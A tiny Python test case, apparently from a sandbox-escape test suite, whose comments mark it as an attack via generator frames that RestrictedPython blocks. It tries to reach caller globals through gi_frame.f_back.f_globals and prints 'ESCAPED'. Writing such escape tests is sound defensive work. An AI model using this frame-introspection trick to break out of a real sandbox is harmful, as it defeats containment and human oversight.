# attack: generator/coroutine/traceback frames
# stops: restrictedpython
# gi_frame.f_back.f_globals
def g():
    yield 1
gen = g()
print(gen.gi_frame.f_back.f_globals, "ESCAPED")
